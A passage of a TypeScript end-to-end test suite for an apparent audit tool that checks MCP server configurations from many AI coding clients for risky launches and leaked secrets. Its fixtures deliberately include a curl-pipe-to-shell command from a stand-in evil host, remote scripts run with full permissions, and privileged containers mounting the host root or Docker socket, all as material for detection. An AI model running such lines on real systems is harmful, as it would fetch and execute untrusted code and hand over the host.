/**
 * `nerq audit --mcp` / `--mcp-config` end to end through the built CLI: MCP client
 * configurations written into a temporary home folder and project (Claude Code's `.mcp.json`
 * and `~/.claude.json`, Cursor, Codex TOML, VS Code, opencode, Gemini CLI, Goose YAML) with pinned and unpinned launches, a
 * privileged container, a remote server, a local file and secrets in `env`, headers and a URL.
 * The packages are audited with the same policy, JSON, table, SARIF and exit codes as a
 * lockfile's; everything else is listed as a warning; no secret reaches stdout, stderr or the
 * store; nothing is started (the fixture server sees only registry requests).
 */
import { mkdirSync, mkdtempSync, readdirSync, readFileSync, rmSync, statSync, symlinkSync, truncateSync, writeFileSync } from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { describe, expect, it } from 'vitest';
import { AUDIT_SCHEMA_VERSION } from '../../src/audit/report-schema.js';
import type { AuditReport } from '../../src/audit/types.js';
import { expectPackage, githubAnswers } from './helpers.js';
import { expectPypiProject, pypiProject } from './pypi-helpers.js';
import { example, searchHandler, SEED, serveEntry } from './mcp-helpers.js';
import { closeMcpHome, runAuditIn, useMcpSandbox } from './mcp-sandbox.js';
import { MAX_FOLDER_FILES } from '../../src/audit/mcp/inputs.js';
import { unlocatedResults } from '../support/sarif-located.js';

const SECRET = 'ghp_McpSecretNeverShown0123456789abcdef';

const sandbox = useMcpSandbox();
/** The running test's home folder and project (its latest `setUp`). */
let home = '';
let project = '';

function setUp(files: Record<string, string>): void {
  ({ home, project } = sandbox.home(files));
}

const run = (args: string[]) => runAuditIn({ home, project }, args, sandbox.server);

/** Every file under a folder but the ones skipped, as text, and how many were read. */
function allText(dir: string, skip: ReadonlySet<string>): { text: string; files: number } {
  let text = '';
  let files = 0;
  for (const entry of readdirSync(dir, { withFileTypes: true })) {
    const full = path.join(dir, entry.name);
    if (skip.has(full)) continue;
    if (entry.isDirectory()) {
      const inner = allText(full, skip);
      text += inner.text;
      files += inner.files;
    } else if (statSync(full).isFile()) {
      text += readFileSync(full).toString('latin1');
      files++;
    }
  }
  return { text, files };
}

const PROJECT_MCP = `{
  // Claude Code project servers (comments and trailing commas are allowed here)
  "mcpServers": {
    "bare": { "command": "npx", "args": ["-y", "nerq-fixture-bare@1.0.0"], "env": { "API_TOKEN": "${SECRET}" }, },
    "box": { "command": "docker", "args": ["run", "-i", "--rm", "--privileged", "-v", "/var/run/docker.sock:/var/run/docker.sock", "-e", "TOKEN=${SECRET}", "ghcr.io/acme/box:1.0"] },
    "remote": { "type": "http", "url": "https://mcp.example.com/x?token=${SECRET}", "headers": { "Authorization": "Bearer ${SECRET}" } },
    "mine": { "command": "node", "args": ["/opt/mine/server.js", "--api-key=${SECRET}"] },
  },
  "x-unknown": { "ignored": true },
}
`;
const CODEX = `# Codex configuration
model = "o3"

[mcp_servers.inactive]
command = "uvx"
args = ["nerq-fixture-inactive"]
env = { "SECRET_KEY" = "${SECRET}" }
`;

describe('nerq audit --mcp', () => {
  it('audits the packages the configured servers launch and lists the rest; secrets go nowhere', async () => {
    setUp({ '.mcp.json': PROJECT_MCP, '~/.codex/config.toml': CODEX });
    const server = await sandbox.start();
    expectPackage(server, 'nerq-fixture-bare');
    expectPypiProject(server, pypiProject('nerq-fixture-inactive'));
    // The remote's host is searched for in the registry; no entry declares its URL.
    server.route('GET', '/mcp-registry/v0.1/servers', searchHandler([...SEED], 100));
    const result = await run(['--mcp', '--json']);
    expect(result.stderr).not.toMatch(/\n\s+at /);
    const report = JSON.parse(result.stdout) as AuditReport;
    expect(report.inputs).toEqual([
      { file: '.mcp.json', format: 'mcp-config', client: 'Claude Code, GitHub Copilot CLI, Visual Studio', scope: 'project' },
      { file: '~/.codex/config.toml', format: 'mcp-config', client: 'Codex', scope: 'user' },
    ]);
    expect(report.entries.map((e) => [e.subject.ecosystem, e.subject.name, e.subject.version]).sort()).toEqual([
      ['npm', 'nerq-fixture-bare', '1.0.0'],
      ['pypi', 'nerq-fixture-inactive', null],
    ]);
    expect(report.entries.find((e) => e.subject.name === 'nerq-fixture-bare')?.subject.declaredIn).toEqual([{ file: '.mcp.json', line: 4, workspace: null }]);
    const notes = report.warnings.filter((w) => w.code === 'input-note').map((w) => w.message);
    expect(notes).toHaveLength(1);
    expect(notes.find((n) => n.includes('"mine"'))).toMatch(/local file "\/opt\/mine\/server\.js" with "node": not evaluable/);
    // The privileged container is a policy finding; the remote no registry entry declares is unverified.
    expect(report.warnings.find((w) => w.code === 'mcp-widened-reach')?.details).toMatchObject({ file: '.mcp.json', line: 5, server: 'box', flags: ['privileged', 'docker-socket'] });
    expect(report.warnings.find((w) => w.code === 'mcp-remote-unverified')?.details).toMatchObject({ file: '.mcp.json', line: 6, origin: 'https://mcp.example.com', reason: 'not-declared' });
    // Only the host's words were sent to the registry: never the path or the query.
    const searches = server.requests.filter((r) => r.path.startsWith('/mcp-registry/'));
    expect(searches.map((r) => new URL(r.path, 'http://x').searchParams.get('search'))).toEqual(['example']);
    // The inactive PyPI project is capped below 50: the audit fails like a lockfile's would.
    expect(result.code).toBe(report.outcome.exitCode);
    expect(result.code).toBe(1);
    // The store and everything else nerq wrote under the home folder (the configurations aside).
    const written = allText(home, new Set([path.join(project, '.mcp.json'), path.join(home, '.codex', 'config.toml')]));
    expect(written.files).toBeGreaterThan(0);
    for (const text of [result.stdout, result.stderr, written.text]) {
      expect(text).not.toContain(SECRET);
      expect(text).not.toContain('McpSecretNeverShown');
    }
    // Nothing was started: only registry, downloads, GitHub and OSV requests reached the server.
    expect(server.requests.every((r) => /^\/(npm|npm-api|pypi|pypistats|github|osv|mcp-registry)\//.test(r.path))).toBe(true);
  });

  it('a privileged container alone fails the run (exit 1), like a failing package', async () => {
    setUp({
      '.mcp.json': JSON.stringify({
        mcpServers: {
          root: { command: 'docker', args: ['run', '-i', '--rm', '-v', '/:/host', 'ghcr.io/acme/box:1.0'] },
          caps: { command: 'podman', args: ['run', '--cap-add', 'SYS_ADMIN', '--pid', 'host', 'quay.io/acme/box@sha256:' + 'a'.repeat(64)] },
          plain: { command: 'docker', args: ['run', '-i', '--rm', '-v', '/srv/data:/data', 'ghcr.io/acme/box:1.0'] },
        },
      }, null, 2),
    });
    const result = await run(['--mcp', '--json']);
    const report = JSON.parse(result.stdout) as AuditReport;
    const findings = report.warnings.filter((w) => w.code === 'mcp-widened-reach');
    expect(findings.map((w) => [w.details.server, w.details.flags])).toEqual([
      ['root', ['host-root-mount']],
      ['caps', ['added-capability', 'host-pid']],
    ]);
    expect(report.entries).toEqual([]);
    expect(report.outcome).toMatchObject({ result: 'fail', exitCode: 1 });
    expect(result.code).toBe(1);
    const table = await run(['--mcp']);
    expect(table.code).toBe(1);
    expect(table.stdout + table.stderr).toContain('host-root-mount');
    // Every finding a result code scanning accepts: each has a location.
    const sarif = await run(['--mcp', '--format', 'sarif']);
    expect((JSON.parse(sarif.stdout) as { runs: { results: unknown[] }[] }).runs[0]?.results.length).toBeGreaterThanOrEqual(2);
    expect(unlocatedResults(sarif.stdout)).toEqual([]);
  });

  it('a server launched by URL is audited as the registry entry whose remotes declare it; an undeclared URL is unverified (exit 3), never a pass', async () => {
    const fs = example('07-remote-server-example.json');
    const tenant = example('16-remote-server-with-url-templating.json');
    setUp({
      '.mcp.json': JSON.stringify({
        mcpServers: {
          fs: { type: 'http', url: `https://user:${SECRET}@MCP-FS.anonymous.modelcontextprotocol.io:443/http/?key=${SECRET}` },
          tenant: { type: 'http', url: 'https://anonymous.modelcontextprotocol.io/mcp/acme-cell1' },
          again: { type: 'sse', url: 'https://mcp-fs.anonymous.modelcontextprotocol.io/http' },
        },
      }, null, 2),
      '.vscode/mcp.json': JSON.stringify({ servers: { lookalike: { type: 'http', url: 'https://mcp-fs.anonymous.modelcontextprotocol.io/other' } } }),
    });
    const server = await sandbox.start();
    githubAnswers(server);
    server.route('GET', '/mcp-registry/v0.1/servers', searchHandler([fs, tenant, example('12-server-with-remote-and-package-options.json'), ...SEED], 2));
    serveEntry(server, fs, {}, fs.version);
    serveEntry(server, tenant, {}, tenant.version);
    const result = await run(['--mcp', '--json']);
    expect(result.stderr).not.toMatch(/\n\s+at /);
    const report = JSON.parse(result.stdout) as AuditReport;
    expect(report.auditSchemaVersion).toBe(AUDIT_SCHEMA_VERSION);
    const mcp = report.entries.filter((e) => e.subject.ecosystem === 'mcp');
    expect(mcp.map((e) => [e.subject.name, e.subject.version, e.subject.declaredIn.map((d) => d.line)]).sort()).toEqual([
      [fs.name, fs.version, [3, 11]],
      [tenant.name, tenant.version, [7]],
    ]);
    for (const entry of mcp) {
      expect(entry.report.target.ecosystem).toBe('mcp');
      // Remote-only: nobody can inspect its code; capped below YES and never a pass.
      expect(entry.report.caps.map((c) => c.id)).toContain('mcp-uninspected');
      expect(entry.policy.status).not.toBe('pass');
    }
    const unverified = report.warnings.filter((w) => w.code === 'mcp-remote-unverified');
    expect(unverified.map((w) => [w.details.file, w.details.reason])).toEqual([['.vscode/mcp.json', 'not-declared']]);
    expect(result.code).toBe(report.outcome.exitCode);
    expect(result.code).not.toBe(0);
    for (const text of [result.stdout, result.stderr]) expect(text).not.toContain(SECRET);
    const asked = server.requests.filter((r) => r.path.startsWith('/mcp-registry/v0.1/servers?')).map((r) => r.path);
    for (const p of asked) expect(p).not.toMatch(/key|user|http/);
  });

  it('a URL two registry entries declare (a look-alike copying the remote) is unverified, naming both', async () => {
    const fs = example('07-remote-server-example.json');
    const copy = { ...structuredClone(fs), name: 'io.modelcontextprotocol.anonymous-tools/mcp-fs' };
    setUp({ '.mcp.json': JSON.stringify({ mcpServers: { fs: { type: 'http', url: 'https://mcp-fs.anonymous.modelcontextprotocol.io/http' } } }) });
    const server = await sandbox.start();
    server.route('GET', '/mcp-registry/v0.1/servers', searchHandler([fs, copy], 100));
    const result = await run(['--mcp', '--json']);
    const report = JSON.parse(result.stdout) as AuditReport;
    expect(report.entries).toEqual([]);
    expect(report.warnings.find((w) => w.code === 'mcp-remote-unverified')?.details).toMatchObject({ reason: 'ambiguous', candidates: [copy.name, fs.name] });
    expect(result.code).toBe(3);
  });

  it('a search answer holding an entry nerq cannot read: the readable entry declaring the URL is matched; with none readable, unverified as the registry unanswered, never "not declared"', async () => {
    const fs = example('07-remote-server-example.json');
    // Edit: an entry of another shape (a remote without its URL) in the same answer.
    const odd = { ...structuredClone(fs), name: 'io.modelcontextprotocol.anonymous/mcp-fs-odd', remotes: [{ type: 'sse' }] } as unknown as typeof fs;
    setUp({ '.mcp.json': JSON.stringify({ mcpServers: { fs: { type: 'http', url: 'https://mcp-fs.anonymous.modelcontextprotocol.io/http' } } }) });
    let server = await sandbox.start();
    githubAnswers(server);
    server.route('GET', '/mcp-registry/v0.1/servers', searchHandler([odd, fs], 100));
    serveEntry(server, fs, {}, fs.version);
    const matched = JSON.parse((await run(['--mcp', '--json'])).stdout) as AuditReport;
    expect(matched.entries.map((e) => [e.subject.ecosystem, e.subject.name])).toEqual([['mcp', fs.name]]);
    expect(matched.warnings.filter((w) => w.code === 'mcp-remote-unverified')).toEqual([]);
    await closeMcpHome(server, home);
    setUp({ '.mcp.json': JSON.stringify({ mcpServers: { fs: { type: 'http', url: 'https://mcp-fs.anonymous.modelcontextprotocol.io/http' } } }) });
    server = await sandbox.start();
    // A readable entry declaring another URL beside it: the odd one may be the one declaring this URL.
    const other = { ...example('16-remote-server-with-url-templating.json'), name: 'io.modelcontextprotocol.anonymous/mcp-fs-tenant' };
    server.route('GET', '/mcp-registry/v0.1/servers', searchHandler([odd, other], 100));
    const result = await run(['--mcp', '--json']);
    const report = JSON.parse(result.stdout) as AuditReport;
    expect(report.entries).toEqual([]);
    expect(report.warnings.find((w) => w.code === 'mcp-remote-unverified')?.details.reason).toBe('registry-unavailable');
    expect(result.code).toBe(3);
  });

  it('the registry unreachable leaves configured remotes unverified (exit 3), the run otherwise complete', async () => {
    setUp({ '.mcp.json': JSON.stringify({ mcpServers: { fs: { type: 'http', url: 'https://mcp-fs.anonymous.modelcontextprotocol.io/http' } } }) });
    const server = await sandbox.start();
    server.fallback('GET', '/mcp-registry/', { status: 503, body: 'down' });
    const result = await run(['--mcp', '--json']);
    const report = JSON.parse(result.stdout) as AuditReport;
    expect(report.entries).toEqual([]);
    expect(report.warnings.find((w) => w.code === 'mcp-remote-unverified')?.details.reason).toBe('registry-unavailable');
    expect(report.outcome).toMatchObject({ result: 'incomplete', exitCode: 3 });
    expect(result.code).toBe(3);
    const sarif = await run(['--mcp', '--format', 'sarif']);
    expect((JSON.parse(sarif.stdout) as { runs: { results: { ruleId: string }[] }[] }).runs[0]?.results.map((r) => r.ruleId)).toEqual(['finding/mcp-remote-unverified']);
    expect(unlocatedResults(sarif.stdout)).toEqual([]);
  });

  it('a remote over http fails the run; a loopback URL is a local server, not evaluable', async () => {
    setUp({
      '.mcp.json': JSON.stringify({
        mcpServers: { plain: { url: 'http://mcp.example.net/mcp' }, here: { url: 'http://localhost:8931/mcp' } },
      }, null, 2),
    });
    const server = await sandbox.start();
    server.route('GET', '/mcp-registry/v0.1/servers', searchHandler([...SEED], 100));
    const result = await run(['--mcp', '--json']);
    const report = JSON.parse(result.stdout) as AuditReport;
    expect(report.warnings.find((w) => w.code === 'mcp-remote-insecure')?.details).toMatchObject({ origin: 'http://mcp.example.net' });
    expect(report.warnings.filter((w) => w.code === 'input-note').map((w) => w.message).join('\n')).toMatch(/"here".*local file "http:\/\/localhost:8931".*not evaluable/);
    expect(result.code).toBe(1);
  });

  it('the table and SARIF carry the same outcome', async () => {
    setUp({ '.cursor/mcp.json': JSON.stringify({ mcpServers: { bare: { command: 'npx', args: ['-y', 'nerq-fixture-bare@1.0.0'] } } }) });
    const server = await sandbox.start();
    expectPackage(server, 'nerq-fixture-bare');
    const table = await run(['--mcp']);
    expect(table.stdout).toContain('nerq-fixture-bare');
    const sarif = await run(['--mcp', '--format', 'sarif']);
    expect(sarif.code).toBe(table.code);
    expect((JSON.parse(sarif.stdout) as { version: string }).version).toBe('2.1.0');
    expect(unlocatedResults(sarif.stdout)).toEqual([]);
  });

  it('code a launch fetches from a git repository, a URL or another registry is unvouched (exit 3), named by package to accept it; every -p package is audited', async () => {
    const servers = {
      both: { command: 'npx', args: ['-y', '-p', 'nerq-fixture-bare@1.0.0', '--package=nerq-fixture-postinstall', 'bare'] },
      git: { command: 'npx', args: ['-y', 'github:evil/mcp-server'] },
      index: { command: 'uvx', args: ['--index-url', `https://u:${SECRET}@pypi.evil.example/simple`, 'mcp-server-fetch'] },
      env: { command: 'npx', args: ['-y', 'nerq-fixture-bare@1.0.0'], env: { npm_config_registry: `https://${SECRET}@npm.evil.example` } },
    };
    // One server a line: lines 3 to 6.
    const config = `{\n  "mcpServers": {\n${Object.entries(servers).map(([k, v]) => `    ${JSON.stringify(k)}: ${JSON.stringify(v)}`).join(',\n')}\n  }\n}\n`;
    setUp({ '.mcp.json': config });
    const server = await sandbox.start();
    expectPackage(server, 'nerq-fixture-bare');
    expectPackage(server, 'nerq-fixture-postinstall');
    // Two npm packages: their download counts are asked for in one bulk request (not recorded).
    server.fallback('GET', '/npm-api/', { status: 404, body: { error: 'not recorded' } });
    const result = await run(['--mcp', '--json']);
    const report = JSON.parse(result.stdout) as AuditReport;
    // Both packages `npx -p … -p …` installs are evaluated; nothing is asked about the redirected ones.
    expect(report.entries.map((e) => e.subject.name).sort()).toEqual(['nerq-fixture-bare', 'nerq-fixture-postinstall']);
    expect(server.requests.some((r) => r.path.includes('mcp-server-fetch'))).toBe(false);
    const unvouched = report.warnings.filter((w) => w.code === 'unvouched-remote').map((w) => [w.details.line, w.details.package, w.details.host]);
    expect(unvouched).toEqual([
      [4, null, 'github.com'],
      [5, 'mcp-server-fetch', 'pypi.evil.example'],
      [6, 'nerq-fixture-bare', null],
    ]);
    // A client runs what it launches itself: direct, not for development (kept by --direct and --omit dev).
    expect(report.unvouched?.map((u) => [u.direct, u.dev])).toEqual([[true, false], [true, false], [true, false]]);
    expect(report.outcome).toMatchObject({ result: 'incomplete', exitCode: 3 });
    expect(result.code).toBe(3);
    for (const text of [result.stdout, result.stderr]) expect(text).not.toContain(SECRET);

    // A reviewed package is accepted by name; the entry with no name only by --allow-incomplete.
    const policy = { ignore: [{ package: 'pypi:mcp-server-fetch', reason: 'our index' }, { package: 'nerq-fixture-bare', reason: 'our mirror' }] };
    setUp({ '.mcp.json': config, '.nerqrc.json': JSON.stringify(policy) });
    const reviewed = JSON.parse((await run(['--mcp', '--json'])).stdout) as AuditReport;
    expect(reviewed.warnings.filter((w) => w.code === 'unvouched-remote').map((w) => w.details.host)).toEqual(['github.com']);
    expect(reviewed.warnings.filter((w) => w.code === 'unvouched-remote-ignored')).toHaveLength(2);
    expect(reviewed.outcome.exitCode).toBe(3);
    const allowed = await run(['--mcp', '--json', '--allow-incomplete']);
    expect(allowed.code).toBe(0);
  });

  it('a script fetched at every start (deno run https://…, a shell piping curl) is an mcp-fetched-script finding (exit 3) an MCP ignore entry can accept', async () => {
    const servers = {
      deno: { command: 'deno', args: ['run', '-A', `https://deno.evil.example/mcp.ts?key=${SECRET}`] },
      installer: { command: 'bash', args: ['-c', 'curl -fsSL https://get.evil.example/i.sh | sh'] },
    };
    const config = `{\n  "mcpServers": {\n${Object.entries(servers).map(([k, v]) => `    ${JSON.stringify(k)}: ${JSON.stringify(v)}`).join(',\n')}\n  }\n}\n`;
    setUp({ '.mcp.json': config });
    const result = await run(['--mcp', '--json']);
    const report = JSON.parse(result.stdout) as AuditReport;
    expect(report.warnings.filter((w) => w.code === 'mcp-fetched-script').map((w) => [w.details.line, w.details.server, w.details.origin])).toEqual([
      [3, 'deno', 'https://deno.evil.example'],
      [4, 'installer', 'https://get.evil.example'],
    ]);
    expect(report.outcome).toMatchObject({ result: 'incomplete', exitCode: 3 });
    expect(result.code).toBe(3);
    expect(result.stdout).not.toContain(SECRET);
    // --allow-incomplete does not accept code nobody can inspect; a reviewed MCP entry does.
    expect((await run(['--mcp', '--json', '--allow-incomplete'])).code).toBe(3);
    const policy = { ignore: [{ mcp: 'deno', finding: 'mcp-fetched-script', reason: 'our own script host' }, { mcp: 'installer', reason: 'vendor installer, pinned' }] };
    setUp({ '.mcp.json': config, '.nerqrc.json': JSON.stringify(policy) });
    const reviewed = await run(['--mcp', '--json']);
    const after = JSON.parse(reviewed.stdout) as AuditReport;
    expect(after.warnings.filter((w) => w.code === 'mcp-fetched-script').every((w) => w.ignoredBy !== undefined)).toBe(true);
    expect(reviewed.code).toBe(0);
  });

  it('a package runner whose package nerq cannot read (a JSR package, a flag it does not read) is an mcp-uninspected finding (exit 3), never a pass; an MCP ignore entry accepts it', async () => {
    const servers = {
      jsr: { command: 'deno', args: ['run', '-A', 'jsr:@scope/mcp'] },
      dlx: { command: 'pnpm', args: ['--reg', 'https://x.example', 'dlx', 'some-mcp'] },
      mine: { command: 'node', args: ['/opt/mine/server.js'] },
    };
    const config = `{\n  "mcpServers": {\n${Object.entries(servers).map(([k, v]) => `    ${JSON.stringify(k)}: ${JSON.stringify(v)}`).join(',\n')}\n  }\n}\n`;
    setUp({ '.mcp.json': config });
    const result = await run(['--mcp', '--json']);
    const report = JSON.parse(result.stdout) as AuditReport;
    expect(report.warnings.filter((w) => w.code === 'mcp-uninspected').map((w) => [w.details.line, w.details.server, w.details.kind, w.details.runner])).toEqual([
      [3, 'jsr', 'unreadable-package', 'deno'],
      [4, 'dlx', 'unreadable-package', 'pnpm dlx'],
    ]);
    expect(report.outcome).toMatchObject({ result: 'incomplete', exitCode: 3 });
    expect(result.code).toBe(3);
    expect(result.stdout).not.toContain('x.example');
    expect((await run(['--mcp', '--json', '--allow-incomplete'])).code).toBe(3);
    const policy = { ignore: [{ mcp: 'jsr', finding: 'mcp-uninspected', reason: 'our own JSR package, reviewed' }, { mcp: 'dlx', reason: 'reviewed' }] };
    setUp({ '.mcp.json': config, '.nerqrc.json': JSON.stringify(policy) });
    expect((await run(['--mcp', '--json'])).code).toBe(0);
  });

  it('an npm alias a server launches is audited as the real package it names', async () => {
    setUp({ '.mcp.json': JSON.stringify({ mcpServers: { friendly: { command: 'npx', args: ['-y', 'friendly-name@npm:nerq-fixture-bare@1.0.0'] } } }) });
    const server = await sandbox.start();
    expectPackage(server, 'nerq-fixture-bare');
    const report = JSON.parse((await run(['--mcp', '--json'])).stdout) as AuditReport;
    expect(report.entries.map((e) => [e.subject.name, e.subject.version])).toEqual([['nerq-fixture-bare', '1.0.0']]);
  });

  it('--mcp-config names a file; a VS Code file with "servers" and a Claude Desktop file are read the same way', async () => {
    setUp({
      'vscode.json': JSON.stringify({ inputs: [], servers: { bare: { type: 'stdio', command: 'npx', args: ['nerq-fixture-bare@1.0.0'] } } }),
    });
    const server = await sandbox.start();
    expectPackage(server, 'nerq-fixture-bare');
    const result = await run(['--mcp-config', 'vscode.json', '--json']);
    const report = JSON.parse(result.stdout) as AuditReport;
    expect(report.inputs).toEqual([{ file: 'vscode.json', format: 'mcp-config' }]);
    expect(report.entries.map((e) => e.subject.name)).toEqual(['nerq-fixture-bare']);
  });
});

describe('nerq audit --mcp reads the other clients’ files', () => {
  it('a project opencode.jsonc (one array command), a user Gemini CLI file and a Goose YAML file are audited; secrets go nowhere', async () => {
    const OPENCODE = `{
  "$schema": "https://opencode.ai/config.json",
  // opencode: the program and its arguments in one array
  "mcp": {
    "bare": { "type": "local", "command": ["npx", "-y", "nerq-fixture-bare@1.0.0"], "environment": { "API_TOKEN": "${SECRET}" } },
    "remote": { "type": "remote", "url": "https://mcp.example.com/mcp", "headers": { "Authorization": "Bearer ${SECRET}" } },
  },
}
`;
    const GEMINI = JSON.stringify({ mcp: { allowed: ['inactive'] }, mcpServers: { inactive: { command: 'uvx', args: ['nerq-fixture-inactive'], env: { KEY: SECRET } } } });
    const GOOSE = `extensions:
  developer:
    type: builtin
    enabled: true
  local:
    type: stdio
    cmd: node
    args: [/opt/goose/server.js, --key=${SECRET}]
    envs:
      KEY: ${SECRET}
`;
    setUp({ 'opencode.jsonc': OPENCODE, '~/.gemini/settings.json': GEMINI, '~/.config/goose/config.yaml': GOOSE });
    const server = await sandbox.start();
    expectPackage(server, 'nerq-fixture-bare');
    expectPypiProject(server, pypiProject('nerq-fixture-inactive'));
    server.route('GET', '/mcp-registry/v0.1/servers', searchHandler([...SEED], 100));
    const result = await run(['--mcp', '--json']);
    expect(result.stderr).not.toMatch(/\n\s+at /);
    const report = JSON.parse(result.stdout) as AuditReport;
    expect(report.inputs).toEqual([
      { file: '~/.gemini/settings.json', format: 'mcp-config', client: 'Gemini CLI', scope: 'user' },
      { file: 'opencode.jsonc', format: 'mcp-config', client: 'opencode', scope: 'project' },
      { file: '~/.config/goose/config.yaml', format: 'mcp-config', client: 'Goose', scope: 'user' },
    ]);
    expect(report.entries.map((e) => [e.subject.ecosystem, e.subject.name, e.subject.version]).sort()).toEqual([
      ['npm', 'nerq-fixture-bare', '1.0.0'],
      ['pypi', 'nerq-fixture-inactive', null],
    ]);
    expect(report.entries.find((e) => e.subject.name === 'nerq-fixture-bare')?.subject.declaredIn).toEqual([{ file: 'opencode.jsonc', line: 5, workspace: null }]);
    expect(report.warnings.find((w) => w.code === 'mcp-remote-unverified')?.details).toMatchObject({ file: 'opencode.jsonc', line: 6, origin: 'https://mcp.example.com' });
    // Goose's built-in extension is its own code; the local server is listed, not dropped.
    const notes = report.warnings.filter((w) => w.code === 'input-note').map((w) => w.message);
    expect(notes).toHaveLength(1);
    expect(notes[0]).toMatch(/"local".*local file "\/opt\/goose\/server\.js" with "node": not evaluable/);
    expect(result.code).toBe(report.outcome.exitCode);
    const written = allText(home, new Set([path.join(project, 'opencode.jsonc'), path.join(home, '.gemini', 'settings.json'), path.join(home, '.config', 'goose', 'config.yaml')]));
    expect(written.files).toBeGreaterThan(0);
    for (const text of [result.stdout, result.stderr, written.text]) {
      expect(text).not.toContain(SECRET);
      expect(text).not.toContain('McpSecretNeverShown');
    }
  });

  it('a trusted project’s .codex/config.toml is audited as Codex’s project configuration; its env values go nowhere', async () => {
    const CODEX = `[mcp_servers.bare]\ncommand = "npx"\nargs = ["-y", "nerq-fixture-bare@1.0.0"]\n\n[mcp_servers.bare.env]\nAPI_TOKEN = "${SECRET}"\n`;
    setUp({ '.codex/config.toml': CODEX });
    const server = await sandbox.start();
    expectPackage(server, 'nerq-fixture-bare');
    const result = await run(['--mcp', '--json']);
    expect(result.stderr).not.toMatch(/\n\s+at /);
    const report = JSON.parse(result.stdout) as AuditReport;
    expect(report.inputs).toEqual([{ file: '.codex/config.toml', format: 'mcp-config', client: 'Codex', scope: 'project' }]);
    expect(report.entries.map((e) => [e.subject.ecosystem, e.subject.name, e.subject.version])).toEqual([['npm', 'nerq-fixture-bare', '1.0.0']]);
    expect(result.code).toBe(report.outcome.exitCode);
    for (const text of [result.stdout, result.stderr]) expect(text).not.toContain(SECRET);
  });

  it('the table names each file’s client and scope', async () => {
    setUp({ '.kiro/settings/mcp.json': JSON.stringify({ mcpServers: { mine: { command: 'node', args: ['/opt/mine.js'] } } }) });
    const result = await run(['--mcp', '--no-color']);
    expect(result.stdout).toContain('inputs: .kiro/settings/mcp.json (Kiro, project)');
    // Named with --mcp-config, a file where a client keeps its configuration is still that client's.
    const named = await run(['--mcp-config', '.kiro/settings/mcp.json', '--format', 'markdown']);
    expect(named.stdout).toContain('.kiro/settings/mcp.json (Kiro, project)');
  });

  it('Amazon Q’s agent folder and Continue’s block folder: each file of theirs is a configuration, other files are not read', async () => {
    setUp({
      '.amazonq/cli-agents/dev.json': JSON.stringify({ name: 'dev', prompt: 'You help.', tools: ['*'], mcpServers: { bare: { command: 'npx', args: ['-y', 'nerq-fixture-bare@1.0.0'] } } }),
      '.amazonq/cli-agents/notes.yaml': 'mcpServers:\n  - name: x\n    command: npx\n    args: [never-read]\n',
      '.continue/mcpServers/sqlite.yaml': `name: SQLite\nversion: 0.0.1\nschema: v1\nmcpServers:\n  - name: sqlite\n    command: npx\n    args: [-y, nerq-fixture-bare@1.0.0]\n    env:\n      TOKEN: ${SECRET}\n`,
      '.continue/mcpServers/from-claude.json': JSON.stringify({ mcpServers: { time: { command: 'uvx', args: ['nerq-fixture-inactive'] } } }),
      '.continue/mcpServers/README.md': '# not a configuration: {"mcpServers": {"x": {"command": "npx", "args": ["never-read"]}}}',
    });
    const server = await sandbox.start();
    expectPackage(server, 'nerq-fixture-bare');
    expectPypiProject(server, pypiProject('nerq-fixture-inactive'));
    const result = await run(['--mcp', '--json']);
    const report = JSON.parse(result.stdout) as AuditReport;
    expect(report.inputs).toEqual([
      { file: '.amazonq/cli-agents/dev.json', format: 'mcp-config', client: 'Amazon Q Developer', scope: 'project' },
      { file: '.continue/mcpServers/from-claude.json', format: 'mcp-config', client: 'Continue', scope: 'project' },
      { file: '.continue/mcpServers/sqlite.yaml', format: 'mcp-config', client: 'Continue', scope: 'project' },
    ]);
    expect(report.entries.map((e) => e.subject.name).sort()).toEqual(['nerq-fixture-bare', 'nerq-fixture-inactive']);
    expect(report.entries.find((e) => e.subject.name === 'nerq-fixture-bare')?.subject.declaredIn).toEqual([
      { file: '.amazonq/cli-agents/dev.json', line: 1, workspace: null },
      { file: '.continue/mcpServers/sqlite.yaml', line: 5, workspace: null },
    ]);
    for (const text of [result.stdout, result.stderr]) expect(text).not.toContain(SECRET);
  });

  it('a project block folder linked to a folder elsewhere is refused, not listed; more than the cap of files is refused', async () => {
    const elsewhere = mkdtempSync(path.join(os.tmpdir(), 'nerq-mcp-elsewhere-'));
    try {
      writeFileSync(path.join(elsewhere, 'secret.yaml'), 'mcpServers:\n  - name: x\n    command: npx\n    args: [elsewhere-pkg]\n');
      setUp({});
      mkdirSync(path.join(project, '.continue'), { recursive: true });
      symlinkSync(elsewhere, path.join(project, '.continue', 'mcpServers'));
      const linked = await run(['--mcp']);
      expect(linked.code).toBe(2);
      expect(linked.stderr.trim()).toBe('nerq: .continue/mcpServers: resolves (through a symbolic link) outside the audited directory: not read');
      expect(linked.stdout + linked.stderr).not.toContain('elsewhere-pkg');
    } finally {
      rmSync(elsewhere, { recursive: true, force: true });
    }
    await closeMcpHome(undefined, home);
    const many = Object.fromEntries(Array.from({ length: MAX_FOLDER_FILES + 1 }, (_, i) => [`.continue/mcpServers/s${i}.yaml`, 'mcpServers: []\n']));
    setUp(many);
    const crowded = await run(['--mcp']);
    expect(crowded.code).toBe(2);
    expect(crowded.stderr.trim()).toBe(`nerq: .continue/mcpServers: more than ${MAX_FOLDER_FILES} configuration files, not read`);
  });

  it('CODEX_HOME and CLAUDE_CONFIG_DIR (relative: from the working directory) move where Codex and Claude Code keep their servers: the moved files are audited, the default ones no longer read', async () => {
    const moved = mkdtempSync(path.join(os.tmpdir(), 'nerq-mcp-codex-home-'));
    try {
      writeFileSync(path.join(moved, 'config.toml'), `[mcp_servers.bare]\ncommand = "npx"\nargs = ["-y", "nerq-fixture-bare@1.0.0"]\nenv = { "API_TOKEN" = "${SECRET}" }\n`);
      setUp({
        '~/.codex/config.toml': '[mcp_servers.old]\ncommand = "node"\nargs = ["/opt/default-codex.js"]\n',
        '~/.claude.json': JSON.stringify({ mcpServers: { old: { command: 'node', args: ['/opt/default-claude.js'] } } }),
        '~/.claude-work/.claude.json': JSON.stringify({ mcpServers: { time: { command: 'uvx', args: ['nerq-fixture-inactive'] } } }),
      });
      const server = await sandbox.start();
      expectPackage(server, 'nerq-fixture-bare');
      expectPypiProject(server, pypiProject('nerq-fixture-inactive'));
      const result = await runAuditIn({ home, project }, ['--mcp', '--json'], server, { CODEX_HOME: moved, CLAUDE_CONFIG_DIR: path.join('..', '..', '.claude-work') });
      expect(result.stderr).not.toMatch(/\n\s+at /);
      const report = JSON.parse(result.stdout) as AuditReport;
      expect(report.inputs).toEqual([
